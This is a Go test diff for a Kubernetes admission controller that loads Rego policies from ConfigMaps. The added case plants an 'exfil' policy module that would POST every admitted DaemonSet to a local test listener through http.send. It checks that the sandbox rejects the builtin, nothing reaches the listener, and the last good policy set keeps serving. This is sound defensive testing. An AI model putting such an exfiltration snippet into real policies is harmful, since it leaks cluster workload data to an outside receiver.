@@ -4,10 +4,13 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -476,6 +479,37 @@ violation contains {"field": "spec.template.spec.containers", "msg": sprintf("im
 	r = runKubectl(latest, "apply", "--dry-run=server", "-n", ns, "-f", "-")
 	if r.err == nil || !strings.Contains(r.stderr, "[no_latest]") {
 		t.Errorf("no_latest stopped serving after the fix: %v\n%s", r.err, r.stderr)
+	}
+
+	// 5. A module that would POST every admitted DaemonSet to a listener calls a builtin outside
+	// the sandbox: it is rejected with file, line and the builtin, the error is written on its
+	// ConfigMap, nothing reaches the listener, and the set with the fixed module keeps serving.
+	var sent atomic.Int64
+	listener := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { sent.Add(1) }))
+	defer listener.Close()
+	exfil := &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Name: "exfil", Labels: labels},
+		Data: map[string]string{"exfil.rego": fmt.Sprintf("package daemonguard.policies.exfil\n\n"+
+			"violation contains {\"field\": \"metadata.name\", \"msg\": \"sent\"} if {\n"+
+			"\thttp.send({\"method\": \"POST\", \"url\": %q, \"body\": input}).status_code == 200\n}\n", listener.URL)},
+	}
+	if _, err := cms.Create(ctx, exfil, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = cms.Delete(context.Background(), exfil.Name, metav1.DeleteOptions{}) })
+	cluster.WaitFor(t, time.Minute, "the exfil ConfigMap carries the sandbox error with file, line and builtin", func(ctx context.Context) (bool, string) {
+		v, _, err := annotation(ctx, exfil.Name)
+		if err != nil {
+			return false, err.Error()
+		}
+		return strings.Contains(v, "configmap/exfil/exfil.rego:4: rego_type_error: builtin http.send is not allowed in daemonguard policies"), fmt.Sprintf("annotation %q", v)
+	})
+	r = runKubectl(named, "apply", "--dry-run=server", "-n", ns, "-f", "-")
+	if r.err == nil || !strings.Contains(r.stderr, "[broken]") || strings.Contains(r.stderr, "[exfil]") {
+		t.Errorf("the last good set (with the fixed module, without exfil) is not serving: %v\n%s", r.err, r.stderr)
+	}
+	if n := sent.Load(); n > 0 {
+		t.Errorf("the listener received %d requests from the policies", n)
 	}
 }
 
